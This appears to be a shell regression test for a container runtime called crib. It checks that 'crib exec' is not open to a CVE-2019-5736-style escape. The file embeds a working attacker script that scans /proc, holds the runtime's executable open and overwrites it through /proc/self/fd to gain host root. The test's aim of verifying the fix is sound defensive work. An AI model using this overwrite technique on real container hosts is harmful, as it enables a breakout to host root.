#!/bin/sh
# crib exec's process is crib's own binary while it is in the container (issue 31's attacker
# review; CVE-2019-5736 by /proc/PID/exe). `crib run` of a `user = no` container with
# SYS_PTRACE runs from a sealed copy of crib (sealed.c: its /proc/1/exe is a memfd), because
# such a container may open /proc/PID/exe of any process of crib's it sees, keep it, and
# rewrite the file once nothing runs it. crib exec (and `crib oci exec`, which podman exec runs)
# does not: the process it starts in the container is a fork of the real binary until its exec,
# in the container's pid namespace. The image here holds that file open and, once crib exec has
# gone, opens it again through /proc/self/fd for writing and replaces it: the next crib (or
# podman, whose runtime crib is) runs the image's program as host root.
#
# The window is made wide for a shell attacker with the fault tests' hook (CRIB_TEST_STOP_AT:
# the process waits before that step, changing nothing it does; in the test build CRIB_HOOKS);
# the attacker of the review, a small compiled program, needs no hook and caught it on its first
# pass under podman exec. The test runs a copy of that crib, and the truth is that copy's bytes
# on the host.
. "$(dirname "$0")/../lib/libtest.sh"
requires root
if ! has_hooks; then
	echo "1..0 # SKIP $HOOKS_SKIP"
	exit 0
fi

mkdir -p "$T/bin"
cp "$CRIB_HOOKS" "$T/bin/crib"
chmod 755 "$T/bin/crib"
before=$(sha256sum <"$T/bin/crib")
mkdir -m 700 "$T/r"
cp -a "$ROOTFS" "$T/r/rootfs"
R=$T/r/rootfs
S="$T/state"
C() { "$T/bin/crib" --root "$S" "$@"; }

# the image's attacker: a process of the container whose exe is not busybox and is a file
# (a memfd has no link: crib's sealed copy), held open; then written once it is not busy
cat >"$R/attack.sh" <<'EOF'
#!/bin/sh
bb=$(stat -L -c %i /bin/busybox)
while :; do
	for p in /proc/[0-9]*; do
		i=$(stat -L -c %i "$p/exe" 2>/dev/null) || continue
		[ "$i" = "$bb" ] && continue
		[ "$(stat -L -c %h "$p/exe" 2>/dev/null)" = 1 ] || continue
		command exec 3<"$p/exe" 2>/dev/null || continue
		echo "$p $i" >/held
		until (command exec 4>/proc/self/fd/3 && printf '#!/bin/sh\necho rewritten-by-the-image\n' >&4) 2>/dev/null; do
			sleep 0.05
		done
		echo done >/wrote
		exit 0
	done
	sleep 0.01
done
EOF
chmod 755 "$R/attack.sh"
cat >"$T/x.ini" <<EOF
[container]
rootfs = $R
[process]
terminal = no
args = /bin/sh -c "/attack.sh & exec sleep 1000"
[namespaces]
user = no
[security]
capabilities = default +SYS_PTRACE
EOF

if ! C run -d --name exe-$$ "$T/x.ini" >/dev/null 2>"$T/run.err"; then
	skips 2 "crib run -d (user = no, SYS_PTRACE) failed: $(head -n 1 "$T/run.err")"
	done_testing
	exit
fi
CRIB_TEST_STOP_AT="exec the program" "$T/bin/crib" --root "$S" exec exe-$$ -- /bin/true >/dev/null 2>&1 </dev/null &
EP=$!
i=0
while [ ! -e "$R/held" ] && [ $i -lt 100 ]; do
	sleep 0.1
	i=$((i + 1))
done
held=$(cat "$R/held" 2>/dev/null)
# crib exec ends (here killed; its process dies with it): nothing runs that file any more
kill -9 $EP 2>/dev/null
wait $EP 2>/dev/null
i=0
while [ -e "$R/held" ] && [ ! -e "$R/wrote" ] && [ $i -lt 50 ]; do
	sleep 0.1
	i=$((i + 1))
done
assert_eq "${held:-nothing held}" "nothing held" \
	"the container cannot open crib's own binary through crib exec's /proc/PID/exe"
assert_eq "$(sha256sum <"$T/bin/crib")" "$before" \
	"and crib's binary on the host is unchanged after crib exec has gone"
# the test's own crib: the copy may be the image's program now
"$CRIB" --root "$S" rm -f exe-$$ >/dev/null 2>&1
done_testing
